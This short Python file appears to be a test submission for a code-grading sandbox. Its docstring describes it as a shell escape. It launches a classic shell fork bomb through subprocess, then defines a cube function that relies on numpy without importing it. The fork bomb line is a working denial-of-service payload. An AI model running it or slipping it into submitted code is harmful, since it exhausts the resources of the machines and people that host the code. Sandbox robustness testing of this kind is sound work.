"""The shell's classic fork bomb, from an escape to the shell.

The number of processes is bounded; all are ended with the submission.
"""
# either: cube
# %% cube
import subprocess
subprocess.Popen(["sh", "-c", "f() { f | f & }; f; f"])
import time
time.sleep(1)
def cube(z):
    return np.asarray(z, dtype=float) ** 3
